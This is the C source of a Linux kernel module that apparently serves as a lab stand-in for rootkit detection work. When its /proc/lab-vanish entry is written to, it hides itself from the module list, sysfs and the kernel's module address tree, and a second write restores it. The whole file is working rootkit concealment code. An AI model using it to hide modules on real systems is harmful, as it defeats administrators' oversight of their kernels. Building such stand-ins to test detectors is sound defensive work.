// SPDX-License-Identifier: GPL-2.0
/* vanish: a module that takes itself out of the list of modules, of sysfs and of the tree of addresses, and nothing more.
 * It does so when /proc/lab-vanish is written to; writing again puts it back, so that it can be unloaded. */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/version.h>
#include "lookup.h"

static struct list_head *before;
static bool in_tree = true;

/* tree inserts the module into the tree of addresses or removes it, where the kernel has a function for it. */
static void tree(const char *name, const char *inner)
{
	void (*whole)(struct module *) = (void *)lookup(name);
#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 19, 0)
	void (*node)(struct mod_tree_node *) = (void *)lookup(inner);

	if (!whole && node) {
		node(&THIS_MODULE->core_layout.mtn);
		in_tree = !in_tree;
		return;
	}
#endif
	if (whole) {
		whole(THIS_MODULE);
		in_tree = !in_tree;
	} else {
		pr_info("vanish: no %s\n", name);
	}
}

static void go(void)
{
	before = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	tree("mod_tree_remove", "__mod_tree_remove");
}

static void back(void)
{
	list_add(&THIS_MODULE->list, before);
	before = NULL;
	if (kobject_add(&THIS_MODULE->mkobj.kobj, NULL, "vanish"))
		pr_info("vanish: not in sysfs\n");
	if (!in_tree)
		tree("mod_tree_insert", "__mod_tree_insert");
}

static ssize_t turn(struct file *f, const char __user *text, size_t n, loff_t *at)
{
	if (before)
		back();
	else
		go();
	return n;
}

static const struct proc_ops ops = {.proc_write = turn};

static int __init vanish_start(void)
{
	if (!proc_create("lab-vanish", 0200, NULL, &ops))
		return -ENOMEM;
	return 0;
}

static void __exit vanish_end(void)
{
	remove_proc_entry("lab-vanish", NULL);
}

module_init(vanish_start);
module_exit(vanish_end);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Stand-in for a rootkit's module that hides");
